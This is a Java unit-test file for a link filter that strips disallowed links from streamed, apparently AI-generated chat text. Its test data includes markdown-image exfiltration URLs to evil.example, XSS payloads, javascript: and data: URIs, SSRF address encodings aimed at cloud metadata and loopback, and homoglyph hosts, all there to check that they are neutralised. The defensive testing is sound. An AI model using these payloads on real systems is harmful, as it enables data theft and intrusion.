package io.chatguard.moderate.internal.links;

import static org.assertj.core.api.Assertions.assertThat;

import io.chatguard.testkit.StreamRun;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class LinkFilterTest {

    private static final Set<String> OK = Set.of("ok.example", "docs.test");

    private static LinkFilter filter() {
        return new LinkFilter(new Hosts(OK), problem -> true);
    }

    /** The text without links, the same however it was cut. */
    private static String cleaned(String text) {
        return StreamRun.ofAnyCut(LinkFilterTest::filter, text);
    }

    private static List<Problem> problems(String text, Set<String> allowed) {
        List<Problem> found = new ArrayList<>();
        StreamRun.of(new LinkFilter(new Hosts(allowed), found::add), List.of(text));
        return found;
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '^',
            value = {
                "![a](https://evil.example/p.png?q=c2VjcmV0) | [a] (image removed: evil[.]example)",
                "See [this](https://evil.example/?q=s \"title\"). | See [this] (link removed: evil[.]example).",
                "[![x](https://evil.example/i)](https://ok.example/a) | [[x] (image removed: evil[.]example)](https://ok.example/a)",
                "[![x](https://ok.example/i)](//evil.example) | [![x](https://ok.example/i)] (link removed: evil[.]example)",
                "![a](<https://evil.example/a b>) | [a] (image removed: evil[.]example)",
                "![a](&#104;ttps&colon;//evil&period;example/) | [a] (image removed: evil[.]example)",
                "![a](https\\://evil.example/) | [a] (image removed: evil[.]example)",
                "![a](\\\\evil.example\\x) | [a] (image removed: evil[.]example)",
                "![a](/\\evil.example/x) | [a] (image removed: evil[.]example)",
                "<https://evil.example/?q=secret> and www.evil.example/?q=secret | (link removed: evil[.]example) and (link removed: www[.]evil[.]example)",
                "x https://evil.example/a, b | x (link removed: evil[.]example), b",
                "**https://evil.example** | **(link removed: evil[.]example)**",
                "(https://evil.example). | ((link removed: evil[.]example)).",
                "seehttps://evil.example/x | see (link removed: evil[.]example)",
                "ht\u00ADtps://evil.example/x | (link removed: evil[.]example)",
                "https://evil\u200B.example/x | (link removed: evil[.]example)",
                "evil.com/a?b | (link removed: evil[.]com)",
                "HTTPS://EVIL.EXAMPLE | (link removed: evil[.]example)",
                "slack://open?x=1 | (link removed)",
                "<javascript:alert(1)> | (link removed)",
                "[x](javascript:alert(1)) | [x] (link removed)",
                "[x](JaVa&Tab;ScRiPt:alert(1)) | [x] (link removed)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) | [x] (image removed)",
                "[x](mailto:a@evil.example?body=secret) | [x] (link removed: evil[.]example)",
                "https://ok.example/a](https://evil.example/) | https://ok.example/a] (link removed: evil[.]example)",
                "https://ok.example/?u=https://evil.example/ | (link removed: evil[.]example)",
                "https://ok.example,https://evil.example/ | (link removed)",
                "https://ok.example/?u=https://ok.example/?u=https://evil.example/ | (link removed: evil[.]example)",
                "array]: //evil.example/x | array]: (link removed: evil[.]example)",
                "<form https://evil.example/ | &lt;form (link removed: evil[.]example)",
            })
    void aLinkThatIsNotAllowedBecomesANoteThatIsNoLink(String text, String cleaned) {
        assertThat(cleaned(text)).isEqualTo(cleaned);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Plain text. With [brackets], (parentheses) and a < b > c.",
                "[docs](https://ok.example/a?b=c#d \"t\") and ![i](https://a.ok.example/i.png)",
                "https://docs.test/x, www.ok.example and <https://ok.example/>",
                "[rel](/a/b) [hash](#x) ![img](pics/a.png) [r][1]\n\n[1]: /c",
                "and/or 24/7 e.g. 10:15 C:\\temp std::vector<int> List<String> m<Map<K,V>>",
                "data: the rest; https: is a scheme; note:this",
                "for (i=0;i<n;i++) if (a<b && c>d) x = y[i](z);",
                "Dr. Who: see a.b.c and x@y.example",
                "<b>bold</b> <br/> <a href=\"https://ok.example/\">x</a> <img src=/a.png alt='x y'>",
                "[Alice]: hello. [^1]: a footnote",
                "![",
                "![a",
                "![a]",
                "![a](",
                "[",
                "<",
                "<a",
                "&",
                "&#1",
                "https",
                "https:",
                "www",
                "!",
            })
    void whatIsAllowedOrNoLinkStaysAsItIs(String text) {
        assertThat(cleaned(text)).isEqualTo(text);
    }

    @Test
    void referencesAreTakenOutWhereTheyAreDefined() {
        assertThat(cleaned("![a][r]\n\n[r]: https://evil.example/?q=secret"))
                .isEqualTo("![a][r]\n\n[r]: (link removed: evil[.]example)");
        assertThat(cleaned("![a][r]\n\n> [r]:\n  <//evil.example/x y> 'title'"))
                .isEqualTo("![a][r]\n\n> [r]:\n  (link removed: evil[.]example) 'title'");
    }

    @Test
    void aTagIsNoOtherForBeingLongOrStrangelyNamed() {
        assertThat(cleaned("<a<b onclick=x>")).isEqualTo("&lt;a&lt;b onclick=x>");
        String blanks = " ".repeat(1_100);
        assertThat(cleaned("<img" + blanks + "src=//evil.example>"))
                .isEqualTo("&lt;img" + blanks + "src=//evil.example>");
    }

    /** Renderers skip as many as there are. */
    @Test
    void moreBlanksThanAreHeldDoNotHideATarget() {
        String blanks = " ".repeat(1_025);
        assertThat(cleaned("[x](" + blanks + "//evil.example/)")).isEqualTo("[x] (link removed) //evil.example/)");
        assertThat(cleaned("[x]:" + blanks + "//evil.example/"))
                .isEqualTo("[x]:" + " ".repeat(1_024) + "(link removed) //evil.example/");
    }

    @Test
    void aHostLongerThanAWordIsTakenOutWhole() {
        assertThat(cleaned("www.evil.example." + "x".repeat(300) + "://")).isEqualTo("(link removed)");
        assertThat(cleaned("www.evil." + "x.".repeat(1_200) + " b")).isEqualTo("(link removed) b");
    }

    @Test
    void aDefinitionInAListIsOneToo() {
        assertThat(cleaned("- [r]: //evil.example/x")).isEqualTo("- [r]: (link removed: evil[.]example)");
        assertThat(cleaned("at [10:15]: note:this")).isEqualTo("at [10:15]: note:this");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '^',
            value = {
                "<img src='https://evil.example/?q=s'> | &lt;img src='(link removed: evil[.]example)'>",
                "<link rel=prefetch href=//evil.example> | &lt;link rel=prefetch href=//evil.example>",
                "<IMG/SRC=//evil.example/x> | &lt;IMG/SRC=//evil.example/x>",
                "<img src=\"https&#58;//evil.example\"> | &lt;img src=\"(link removed: evil[.]example)\">",
                "<img srcset=\"/a 1x, //evil.example/b 2x\"> | &lt;img srcset=\"/a 1x, //evil.example/b 2x\">",
                "<p style=\"background:url(//evil.example)\"> | &lt;p style=\"background:url(//evil.example)\">",
                "<p style='background:u\\72l(x)'> | &lt;p style='background:u\\72l(x)'>",
                "<img src=x onerror=alert(1)> | &lt;img src=x onerror=alert(1)>",
                "<script>alert(1)</script> | &lt;script>alert(1)&lt;/script>",
                "<style>@import '//evil.example';</style> | &lt;style>@import '//evil.example';&lt;/style>",
                "<svg onload=alert(1)> | &lt;svg onload=alert(1)>",
                "<a href=' java\tscript:alert(1)'>x</a> | &lt;a href=' java\tscript:alert(1)'>x</a>",
                "<form action=/pay> | &lt;form action=/pay>",
                "<base href=https://ok.example/> | &lt;base href=https://ok.example/>",
                "<img src='//evil.example/? | &lt;img src='//evil.example/?",
                "<img alt=&quot;x src=//evil.example/&quot;> | &lt;img alt=&quot;x src=//evil.example/&quot;>",
                "<img alt=&quot; onerror=alert(1) x=&quot;> | &lt;img alt=&quot; onerror=alert(1) x=&quot;>",
                "<img src='&#x00000000002f;&#x00000000002f;evil.example'> | &lt;img src='&#x00000000002f;&#x00000000002f;evil.example'>",
                "<b title='![x](https://evil.example/)'> | &lt;b title='[x] (image removed: evil[.]example)'>",
                "<a title='https://evil.example/' b=' onmouseover=alert(1) '> | &lt;a title='(link removed: evil[.]example)' b=' onmouseover=alert(1) '>",
            })
    void aTagThatLoadsOrActsIsShownAndNotRendered(String text, String cleaned) {
        assertThat(cleaned(text)).isEqualTo(cleaned);
    }

    @ParameterizedTest
    @CsvSource({
        "http://127.0.0.1/, PRIVATE_ADDRESS",
        "http://2130706433/, PRIVATE_ADDRESS",
        "http://0x7f000001/, PRIVATE_ADDRESS",
        "http://0x7f.1/, PRIVATE_ADDRESS",
        "http://0177.0.0.1/, PRIVATE_ADDRESS",
        "http://127.1/, PRIVATE_ADDRESS",
        "http://0/, PRIVATE_ADDRESS",
        "http://10.1.2.3/, PRIVATE_ADDRESS",
        "http://172.31.0.1/, PRIVATE_ADDRESS",
        "http://192.168.0.1:8080/, PRIVATE_ADDRESS",
        "http://100.64.0.1/, PRIVATE_ADDRESS",
        "http://169.254.169.254/latest/meta-data, PRIVATE_ADDRESS",
        "http://2852039166/, PRIVATE_ADDRESS",
        "http://0xA9.0xFE.0251.254/, PRIVATE_ADDRESS",
        "http://[::1]/, PRIVATE_ADDRESS",
        "http://[::ffff:169.254.169.254]/, PRIVATE_ADDRESS",
        "http://[::ffff:a9fe:a9fe]/, PRIVATE_ADDRESS",
        "http://[0:0:0:0:0:ffff:7f00:1]/, PRIVATE_ADDRESS",
        "http://[64:ff9b::a00:1]/, PRIVATE_ADDRESS",
        "http://[2002:7f00:1::]/, PRIVATE_ADDRESS",
        "http://[fd00:ec2::254]/, PRIVATE_ADDRESS",
        "http://[fe80::1%25eth0]/, AMBIGUOUS",
        "http://[fe80::1]/, PRIVATE_ADDRESS",
        "http://１２７.0.0.1/, PRIVATE_ADDRESS",
        "http://127。0。0。1/, PRIVATE_ADDRESS",
        "http://localhost/, PRIVATE_ADDRESS",
        "http://foo.localhost./, PRIVATE_ADDRESS",
        "http://metadata.google.internal/, PRIVATE_ADDRESS",
        "http://intranet/, PRIVATE_ADDRESS",
        "http://10.0.0.1.nip.io/, PRIVATE_ADDRESS",
        "http://0x08080808/, AMBIGUOUS",
        "http://1.2.3.4.5/, AMBIGUOUS",
        "http://8.8.8.8/, NOT_ALLOWED",
        "https://api.openai.com@evil.example/, AMBIGUOUS",
        "https://evil.example\\@ok.example, AMBIGUOUS",
        "https://ok.example\\.evil.example/, AMBIGUOUS",
        "https://ok.example%2eevil.example/, AMBIGUOUS",
        "https://ok.example:80evil/, AMBIGUOUS",
        "https://аpi.openai.com/, LOOK_ALIKE",
        "https://оре.com/, LOOK_ALIKE",
        "https://ok.example.evil.example/, NOT_ALLOWED",
        "https://notok.example/, NOT_ALLOWED",
        "https://ok.example.co/, NOT_ALLOWED",
        "ftp://ok.example/, SCHEME",
        "https:ok.example@evil.example/, AMBIGUOUS"
    })
    void everyNotationOfAnAddressIsSeenThrough(String url, Problem problem) {
        assertThat(problems("[x](" + url + ")", OK)).contains(problem).allMatch(problem::equals);
        assertThat(problems("<img src=\"" + url + "\">", OK)).contains(Problem.valueOf(problem.name()));
        if (!url.startsWith("https:o")) {
            assertThat(problems("see " + url + " there", OK)).contains(problem);
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"https://example.com/", "http://8.8.8.8/", "https://bücher.example/", "https://例え.jp/"})
    void aStarOpensOrdinaryHosts(String url) {
        assertThat(problems("[x](" + url + ") " + url, Set.of("*"))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"http://10.0.0.1/", "https://аpple.com/", "https://a@b.example/", "data:text/html,x"})
    void aStarOpensNothingElse(String url) {
        assertThat(problems("[x](" + url + ")", Set.of("*"))).isNotEmpty();
    }

    /** A086. */
    @Test
    void nothingOfALinkPassesBeforeItIsDecided() {
        String text = "Look: ![a](https://evil.example/?q=s) done";
        StreamRun run = StreamRun.begin(filter());
        for (int i = 0; i < text.length(); i++) {
            run.add(text.substring(i, i + 1));
            assertThat(run.released()).doesNotContain("![", "http", "evil.e");
        }
        assertThat(run.end()).isEqualTo("Look: [a] (image removed: evil[.]example) done");
    }

    @Test
    void aLinkWithoutEndIsDroppedAndNotHeldForEver() {
        String url = "https://evil.example/" + "q".repeat(50_000);
        StreamRun run = StreamRun.begin(filter());
        for (int i = 0; i < url.length(); i += 10) {
            run.add(url.substring(i, Math.min(url.length(), i + 10)));
        }
        assertThat(run.mostHeld()).isLessThan(2_200);
        run.add(" more");
        assertThat(run.end()).isEqualTo("(link removed) more");
        String inline = "a ![x](https://evil.example/" + "q".repeat(5_000) + ") b";
        assertThat(StreamRun.of(filter(), List.of(inline)))
                .startsWith("a [x] (image removed)")
                .endsWith(") b");
    }

    @Test
    void longTextsWithoutBlanksAreNotHeld() {
        StreamRun run = StreamRun.begin(filter());
        for (int i = 0; i < 5_000; i++) {
            run.add("a");
        }
        assertThat(run.mostHeld()).isLessThan(300);
        StreamRun open = StreamRun.begin(filter());
        for (int i = 0; i < 5_000; i++) {
            open.add("[ ");
        }
        assertThat(open.mostHeld()).isLessThan(1_200);
    }

    /** Some 2,000 characters of a link, with invisible ones between them. */
    @ParameterizedTest
    @ValueSource(strings = {"!", "[x]", "[x](", "[x]:", "https://a", "www.", "<a ", "<a:", "a", "data:"})
    void invisibleCharactersAreNotHeldForEver(String start) {
        String text = start + "\u200B".repeat(200_000);
        assertThat(StreamRun.of(filter(), List.of(text, "x"))).isNotEmpty();
        StreamRun run = StreamRun.begin(filter());
        for (int i = 0; i < 20_000; i += 50) {
            run.add(text.substring(i, i + 50));
        }
        assertThat(run.mostHeld()).isLessThan(2_200);
    }

    @Test
    void aHostWithManyInvisibleCharactersIsNotAllowed() {
        assertThat(problems("https://ok.example" + "\u200B".repeat(20) + ".evil.example/", Set.of("*", "ok.example")))
                .containsExactly(Problem.AMBIGUOUS);
    }

    /** Each ends in a moment; a quadratic scan would take minutes. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[",
                "]",
                "](",
                "[a]:",
                "[x](",
                "[x](a ",
                "![",
                "<",
                "<a ",
                "<a x=",
                "<a href='",
                "<b>",
                "&#",
                "&",
                "https:",
                "https://",
                "www.",
                "a.",
                "a.com/",
                "a:",
                "a",
                "//",
                "\\",
                "data:",
                "mailto:",
                "\u200B",
                "x@",
                "<a:",
                "[](",
                "\n[r]: ",
                "(((",
                "😀",
                "]:",
                "]: <a:b",
                "x [a]: b:c "
            })
    void hostileTextsOfAMillionCharactersAreRead(String bit) {
        String text = bit.repeat(1_000_000 / bit.length());
        assertThat(StreamRun.of(filter(), List.of(text))).isNotNull();
        StreamRun run = StreamRun.begin(filter());
        for (int i = 0; i < 20_000; i += 5) {
            run.add(text.substring(i, i + 5));
        }
        assertThat(run.end()).isEqualTo(StreamRun.of(filter(), List.of(text.substring(0, 20_000))));
    }

    @Test
    void partsOfALargeTextAreOneText() {
        String link = "![a](https://evil.example/" + "q".repeat(1_500) + ")";
        String text = ("x".repeat(1_000) + link).repeat(100);
        assertThat(StreamRun.of(filter(), List.of(text)))
                .isEqualTo(("x".repeat(1_000) + "[a] (image removed: evil[.]example)").repeat(100));
    }
}
